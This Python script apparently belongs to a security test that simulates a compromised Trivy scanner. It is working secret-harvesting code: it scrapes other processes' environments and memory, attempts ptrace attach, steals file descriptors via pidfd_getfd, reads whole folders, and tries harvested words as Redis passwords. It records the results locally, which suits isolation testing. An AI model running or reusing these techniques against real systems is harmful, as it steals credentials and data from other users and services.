"""What a program in Trivy's place can do that was taken over: it looks for secrets wherever a
program of the same user can look, and writes down what it found.

Started by itself with the system's Python, not as a part of the tests.
"""

import contextlib
import ctypes
import json
import os
import re
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

SIGNS = re.compile(
    rb"ed25519-private:[\w.:+/=-]+|rediss?://[^\s\0\"']+|xox[a-z]-[\w-]+|xapp-[\w-]+"
    rb"|(?:[A-Z_]*(?:PASSWORD|SECRET|TOKEN|KEY)[A-Z_]*)=[^\s\0]+"
)
LARGEST = 8 * 1024 * 1024
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PIDFD_OPEN, PIDFD_GETFD = 434, 438
"""https://github.com/torvalds/linux/blob/master/include/uapi/asm-generic/unistd.h"""
HURRY = time.monotonic() + 10
"""What it got by then is enough."""
libc = ctypes.CDLL(None, use_errno=True)


class Part(ctypes.Structure):
    """https://man7.org/linux/man-pages/man2/process_vm_readv.2.html"""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def others() -> Iterator[int]:
    """Every process but this one."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            yield int(entry.name)


def environment_of(pid: int) -> bytes:
    """Its environment, as it was started with."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/environ").read_bytes()
    return b""


def regions_of(pid: int) -> Iterator[tuple[int, int]]:
    """Where in its memory it may keep secrets."""
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            if "rw-p" in line and "/" not in line and time.monotonic() < HURRY:
                start, _, end = line.split()[0].partition("-")
                yield int(start, 16), min(int(end, 16) - int(start, 16), LARGEST)


def memory_of(pid: int) -> bytes:
    """Its memory, by its file in /proc and by the call that needs none."""
    found = b""
    with contextlib.suppress(OSError), Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for start, length in regions_of(pid):
            with contextlib.suppress(OSError, OverflowError, ValueError):
                memory.seek(start)
                found += b"\0".join(SIGNS.findall(memory.read(length)))
    for start, length in regions_of(pid):
        room = ctypes.create_string_buffer(length)
        ours, theirs = Part(ctypes.addressof(room), length), Part(start, length)
        count = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if count > 0:
            found += b"\0".join(SIGNS.findall(room.raw[:count]))
    return found


def attached(pid: int) -> bool:
    """Whether it could be made to do anything."""
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return False
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return True


def line_of(pid: int) -> list[int]:
    """The process, its parent, and so on."""
    line = [pid]
    with contextlib.suppress(OSError, ValueError):
        while line[-1] > 1:
            status = Path(f"/proc/{line[-1]}/stat").read_text()
            line.append(int(status.rpartition(")")[2].split()[1]))
    return line


def files_of(pid: int) -> bytes:
    """What it has open, by /proc and by taking its descriptors over; and its working directory."""
    found = b""
    for number in range(64):
        with contextlib.suppress(OSError):
            found += bytes(Path(f"/proc/{pid}/fd/{number}").readlink()) + b"\0"
        descriptor = libc.syscall(PIDFD_OPEN, pid, 0)
        if descriptor >= 0:
            taken = libc.syscall(PIDFD_GETFD, descriptor, number, 0)
            os.close(descriptor)
            if taken >= 0:
                found += b"descriptor taken\0"
                os.close(taken)
    return found


def inherited() -> list[str]:
    """Descriptors that it was started with, besides standard input, output and errors."""
    found = []
    for entry in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            target = str(entry.readlink())
            if int(entry.name) > 2 and not target.startswith("/proc/"):
                found.append(target)
    return found


def files_in(folders: list[str]) -> bytes:
    """What stands in every file there that it may read."""
    found = b""
    for folder in folders:
        for place, _, names in os.walk(folder):
            for name in names:
                with contextlib.suppress(OSError):
                    found += Path(place, name).read_bytes()[:LARGEST]
    return found


def let_in(port: int, words: set[bytes]) -> bool:
    """Whether Redis answers to it, without a password or with one of these."""
    for word in (b"", *sorted(words)):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as one:
            if word:
                one.sendall(b"AUTH " + word + b"\r\n")
                one.recv(100)
            one.sendall(b"GET quaymaster:next-id\r\n")
            if one.recv(100).startswith((b"$", b"_")):
                return True
    return False


def main() -> None:
    plan = json.loads(Path(__file__).with_name("plan.json").read_text())
    of_others = b"".join(
        environment_of(pid) + b"\0" + memory_of(pid) + files_of(pid) for pid in others()
    )
    in_files = files_in(plan["folders"])
    loot = of_others + in_files
    words = {
        word
        for found in SIGNS.findall(loot)
        for word in re.split(rb"[=:@/]+", found)
        if len(word) >= 8
    }
    found = {
        "user": os.getuid(),
        "own": dict(os.environ),
        "inherited": inherited(),
        "attached": [line_of(pid) for pid in others() if attached(pid)],
        "redis": let_in(plan["port"], words),
        "loot": loot.decode("latin-1"),
    }
    written = Path(plan["out"], f"{os.getpid()}.part")
    written.write_text(json.dumps(found))
    written.rename(written.with_suffix(".json"))
    sys.exit(1)


if __name__ == "__main__":
    main()
